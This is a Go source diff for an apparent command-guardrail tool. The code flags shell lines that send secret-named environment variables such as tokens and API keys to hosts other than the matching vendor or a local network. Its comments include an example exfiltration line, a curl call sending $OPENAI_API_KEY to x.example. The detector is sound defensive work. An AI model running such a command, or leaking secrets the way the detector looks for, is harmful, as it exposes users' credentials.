@@ -1,0 +1,145 @@
+package shell
+
+import (
+	"net/netip"
+	"slices"
+	"strings"
+
+	"github.com/guardrail-go/guardrail/middleware"
+)
+
+// Secrets a command takes from its environment: $GITHUB_TOKEN,
+// "${AWS_SECRET_ACCESS_KEY}", $DB_PASSWORD. Their values are private data,
+// like a credential file's, so a network call on a line that expands one
+// reads the environment (the environment class): sent to a host that is
+// not the one the secret is for (curl "https://x.example/?k=$OPENAI_API_KEY")
+// it is exfiltration. Sent to its own vendor (Bearer $GITHUB_TOKEN to
+// api.github.com) or to this machine or its private network it is the
+// secret's ordinary use. A secret of no known vendor has no host of its
+// own: sent anywhere off the network it counts as leaving. To teach a
+// vendor, add a row.
+
+// secretVendors: the first word of a variable's name → the hosts (and
+// their subdomains) its secrets are meant for.
+var secretVendors = []struct{ names, hosts string }{
+	{"GITHUB GH", "github.com githubusercontent.com ghcr.io"},
+	{"GITLAB", "gitlab.com"},
+	{"BITBUCKET", "bitbucket.org atlassian.com"},
+	{"JIRA ATLASSIAN CONFLUENCE", "atlassian.net atlassian.com"},
+	{"OPENAI", "openai.com"},
+	{"ANTHROPIC CLAUDE", "anthropic.com"},
+	{"MISTRAL", "mistral.ai"},
+	{"GROQ", "groq.com"},
+	{"COHERE", "cohere.com cohere.ai"},
+	{"OPENROUTER", "openrouter.ai"},
+	{"DEEPSEEK", "deepseek.com"},
+	{"TOGETHER", "together.xyz together.ai"},
+	{"PERPLEXITY", "perplexity.ai"},
+	{"REPLICATE", "replicate.com"},
+	{"HF HUGGINGFACE", "huggingface.co"},
+	{"PINECONE", "pinecone.io"},
+	{"AWS", "amazonaws.com aws.amazon.com"},
+	{"GOOGLE GCP GCLOUD GEMINI FIREBASE", "googleapis.com google.com"},
+	{"AZURE", "azure.com azure.net windows.net microsoft.com"},
+	{"CLOUDFLARE CF", "cloudflare.com"},
+	{"DIGITALOCEAN DO", "digitalocean.com"},
+	{"HEROKU", "heroku.com"},
+	{"VERCEL", "vercel.com"},
+	{"NETLIFY", "netlify.com"},
+	{"FLY", "fly.io"},
+	{"RENDER", "render.com"},
+	{"RAILWAY", "railway.app"},
+	{"SUPABASE", "supabase.co supabase.com"},
+	{"NPM", "npmjs.org npmjs.com"},
+	{"PYPI TWINE", "pypi.org"},
+	{"CARGO CRATES", "crates.io"},
+	{"RUBYGEMS GEM", "rubygems.org"},
+	{"NUGET", "nuget.org"},
+	{"DOCKER DOCKERHUB", "docker.io docker.com"},
+	{"CIRCLECI CIRCLE", "circleci.com"},
+	{"CODECOV", "codecov.io"},
+	{"SONAR", "sonarcloud.io"},
+	{"SNYK", "snyk.io"},
+	{"SENTRY", "sentry.io"},
+	{"DATADOG DD", "datadoghq.com datadoghq.eu"},
+	{"SLACK", "slack.com"},
+	{"DISCORD", "discord.com"},
+	{"TELEGRAM", "telegram.org"},
+	{"STRIPE", "stripe.com"},
+	{"TWILIO", "twilio.com"},
+	{"SENDGRID", "sendgrid.com sendgrid.net"},
+	{"MAILGUN", "mailgun.net mailgun.org"},
+	{"NOTION", "notion.com notion.so"},
+	{"LINEAR", "linear.app"},
+}
+
+// secretWords are the words of a variable's name that say its value is a
+// secret; secretPairs the two-word ones ("API_KEY", "PRIVATE_KEY").
+var (
+	secretWords = setOf(words("TOKEN TOKENS SECRET SECRETS PASSWORD PASSWORDS PASSWD PASS PASSPHRASE APIKEY CREDENTIAL CREDENTIALS PAT AUTHTOKEN"))
+	secretPairs = setOf(words("API_KEY ACCESS_KEY PRIVATE_KEY SECRET_KEY SIGNING_KEY MASTER_KEY CLIENT_KEY ACCOUNT_KEY LICENSE_KEY"))
+)
+
+// maxEnvSecrets bounds the secret names one line keeps.
+const maxEnvSecrets = 16
+
+// secretEnvName reports whether a variable's name says it holds a secret.
+func secretEnvName(name string) bool {
+	parts := strings.Split(strings.ToUpper(name), "_")
+	for i, p := range parts {
+		if secretWords[p] || i > 0 && secretPairs[parts[i-1]+"_"+p] {
+			return true
+		}
+	}
+	return false
+}
+
+// noteSecret records that the line expands the secret variable name.
+func (e *ewalker) noteSecret(name string) {
+	if len(e.envSecrets) < maxEnvSecrets && secretEnvName(name) {
+		e.envSecrets = append(e.envSecrets, name)
+	}
+}
+
+// secretsTo judges the secrets the line has expanded so far against a
+// network call to host (unknown: the host is computed): a secret sent
+// where it does not belong reads the environment and sends.
+func (e *ewalker) secretsTo(host string, unknown bool) {
+	for _, name := range e.envSecrets {
+		if !unknown && (localHost(host) || ownHost(name, host)) {
+			continue
+		}
+		e.addPath(middleware.EffectRead, environ)
+		e.add(middleware.Effect{Op: middleware.EffectNet, Host: host, Dir: dirSend, Unknown: unknown})
+		return
+	}
+}
+
+// ownHost reports whether host is one of the hosts the vendor the
+// variable is named after serves.
+func ownHost(name, host string) bool {
+	first, _, _ := strings.Cut(strings.ToUpper(name), "_")
+	host = strings.ToLower(strings.TrimSuffix(host, "."))
+	for _, v := range secretVendors {
+		if !slices.Contains(strings.Fields(v.names), first) {
+			continue
+		}
+		for _, h := range strings.Fields(v.hosts) {
+			if host == h || strings.HasSuffix(host, "."+h) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// localHost: this machine or a private network (loopback and private
+// addresses, .localhost, .local, .internal names).
+func localHost(host string) bool {
+	host = strings.ToLower(strings.TrimSuffix(host, "."))
+	if host == "localhost" || strings.HasSuffix(host, ".localhost") || strings.HasSuffix(host, ".local") || strings.HasSuffix(host, ".internal") {
+		return true
+	}
+	a, err := netip.ParseAddr(host)
+	return err == nil && (a.IsLoopback() || a.IsPrivate() || a.IsUnspecified())
+}
